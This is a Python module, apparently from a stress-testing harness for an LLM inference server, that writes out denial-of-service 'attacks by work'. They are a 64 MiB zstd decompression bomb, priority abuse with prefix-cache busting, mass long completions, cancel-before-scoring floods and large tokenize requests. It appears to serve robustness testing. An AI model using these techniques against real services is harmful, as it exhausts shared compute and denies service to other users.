"""Attacks by work: requests that cost the server more than they cost their client."""

import asyncio
import json
import random

import frames

# Ids of ordinary tokens.
TOKENS = range(10, 380)
# Tokens of a long context.
LONG = 2000
LOWEST_PRIORITY = -(1 << 31)


def random_tokens(generator, count):
    """Returns token ids, separated by commas."""
    return ",".join(str(generator.choice(TOKENS)) for _ in range(count))


def random_words(generator, count):
    """Returns characters of random words."""
    words = ("".join(generator.choice("etaoinshr") for _ in range(generator.randint(2, 9))) for _ in range(count // 3))
    return " ".join(words)[:count]


LONG_CONTEXTS = [random_tokens(random.Random(number), LONG - 1) for number in range(64)]
WORDS = random_words(random.Random(0), 1 << 18)

# One text of 64 MiB, less its surroundings, so that the body is within the server's limit on bodies.
TEXT_BYTES = (64 << 20) - 1024
BOMBS = {
    "/logprobs": frames.frame(b'{"queries":[{"context":"It","target":"', b"a", TEXT_BYTES, b'"}]}', window_log=23),
    "/tokenize": frames.frame(b'{"prompt":"', b"a", TEXT_BYTES, b'"}', window_log=23),
}


async def bomb(attacker):
    """Sends a compressed text of 64 MiB."""
    path = list(BOMBS)[attacker.number % len(BOMBS)]
    await attacker.request(path, BOMBS[path], content_encoding="zstd")


async def priority(attacker):
    """Scores long contexts, alternately with the most urgent priority of all and, if that is rejected, without one."""
    # Another first token keeps all others out of the prefix cache.
    first = attacker.random.choice(TOKENS), attacker.random.choice(TOKENS)
    queries = ",".join(f'{{"context":[{first[0]},{first[1]},{rest}],"target":[20,21]}}' for rest in LONG_CONTEXTS)
    urgent = f',"priority":{LOWEST_PRIORITY}' if attacker.turns % 2 == 0 else ""
    await attacker.request("/logprobs", f'{{"queries":[{queries}]{urgent}}}'.encode())


async def generate(attacker):
    """Samples 64 long completions."""
    prompt = [attacker.random.choice(TOKENS) for _ in range(20)]
    body = {"prompt": prompt, "n": 64, "max_tokens": 400, "ignore_eos": True, "temperature": 1}
    await attacker.request("/v1/completions", json.dumps(body).encode())


async def cancel(attacker):
    """Requests 65,536 pairs, and disconnects before they are scored."""
    first = attacker.random.choice(TOKENS)
    contexts = [[first, token] for token in range(10, 266)]
    body = {"contexts": contexts, "targets": [[token] for token in range(10, 266)]}
    await attacker.send("/logprobs", json.dumps(body).encode())
    # A server that rejects the request answers at once.
    answer = asyncio.ensure_future(attacker.answer())
    try:
        await asyncio.wait_for(asyncio.shield(answer), 2)
    except TimeoutError:
        attacker.tally.statuses["cancelled"] += 1
    finally:
        attacker.abort()
        # The connection is closed, so that reading it fails.
        await asyncio.gather(answer, return_exceptions=True)


async def tokenize(attacker):
    """Tokenizes a text of 100 KiB."""
    start = attacker.random.randrange(len(WORDS) - (100 << 10))
    await attacker.request("/tokenize", json.dumps({"prompt": WORDS[start : start + (100 << 10)]}).encode())
